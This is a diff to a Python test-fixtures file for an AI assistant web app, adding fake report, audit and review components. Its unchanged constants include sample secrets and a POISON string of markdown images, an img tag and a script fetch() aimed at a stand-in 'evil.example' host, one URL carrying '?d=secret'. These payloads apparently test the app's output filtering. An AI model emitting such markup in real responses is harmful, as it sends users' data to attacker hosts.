@@ -15,6 +15,7 @@ from assistant.history.values import Feedback, StoredMessage, ThreadPage
 from assistant.jobs.job import Job, JobState
 from assistant.knowledge.document import Document, DocumentState
 from assistant.personas.reader import read_personas
+from assistant.review import Figures, Review
 from assistant.turn_events import (
     Accepted,
     Answered,
@@ -28,12 +29,15 @@ from assistant.turn_events import (
 from assistant.web.chat_parts import ChatParts
 from connectors.model_hosts.values import Capability, HostStatus, ModelStatus, Route
 from policies.verdict import Action, Decision, Finding, Verdict
+from tests.fakes.review_parts import FakeCounts, FakeReports
+from tests.fakes.turn_parts import FakeAudit
 
 PASSWORD = "correct horse battery"
 ACCESS_KEY = "AKIAIOSFODNN7EXAMPLE"
 PEM = "-----BEGIN RSA PRIVATE KEY-----"
 ANSWER = "The restart failed because the disk was full.\n\n```python\nprint('free some space')\n```\n"
 EVIL = "evil.example"
+LABELS = {"secret/aws-access-key": "AWS access key", "secret/private-key": "Private key"}
 POISON = (
     f"Look: ![chart](https://{EVIL}/pixel.png?d=secret) and [a link](https://{EVIL}/click) "
     f"<img src='https://{EVIL}/tag.png'><script>fetch('https://{EVIL}/x')</script> ![v](https://{EVIL}/film.mp4)"
@@ -111,6 +115,13 @@ class FakeHistory:
     async def messages(self, person: Person, thread_id: UUID) -> list[StoredMessage]:
         await self.thread(person, thread_id)
         return list(self.stored[thread_id])
+
+    async def stored_message(self, person: Person, message_id: UUID) -> StoredMessage:
+        for thread_id, entries in self.stored.items():
+            for entry in entries:
+                if entry.message.id == message_id and self.rows[thread_id].owner_id == person.id:
+                    return entry
+        raise NotFoundError("There is no such message, or it is not yours.")
 
     async def rename_thread(self, person: Person, thread_id: UUID, title: str) -> None:
         self.rows[thread_id] = replace(await self.thread(person, thread_id), title=judge(title).text)
@@ -301,17 +312,30 @@ def hosts() -> Sequence[HostStatus]:
     return [HostStatus("Mini2", "lmstudio", "http://mini2:1234", True, "Mini2 serves 1 model", now, "fleet", (model,))]
 
 
+class JudgingGuard:
+    """The guard of titles and comments."""
+
+    async def check_apart(self, text: str, person: Person) -> Verdict:
+        return judge(text)
+
+
 @dataclass
 class FakeSite:
-    """Everything behind the doors."""
+    """Everything behind the doors; reports are filed and decided by the product's own use case."""
 
     identity: FakeIdentity = field(default_factory=FakeIdentity)
     history: FakeHistory = field(default_factory=FakeHistory)
     documents: FakeDocuments = field(default_factory=FakeDocuments)
+    reports: FakeReports = field(default_factory=FakeReports)
+    counts: FakeCounts = field(default_factory=FakeCounts)
+    audit: FakeAudit = field(default_factory=lambda: FakeAudit([]))
     turns: FakeTurns = field(init=False)
+    review: Review = field(init=False)
 
     def __post_init__(self) -> None:
         self.turns = FakeTurns(self.history)
+        figures = Figures(self.audit, self.reports, self.counts, labels=lambda: LABELS)
+        self.review = Review(self.history, JudgingGuard(), self.audit, reports=self.reports, figures=figures)
 
     def parts(self) -> ChatParts:
         return ChatParts(
@@ -319,5 +343,6 @@ class FakeSite:
             personas=read_personas(),
             conversations=self.history,
             documents=self.documents,
+            review=self.review,
             hosts=hosts,
         )
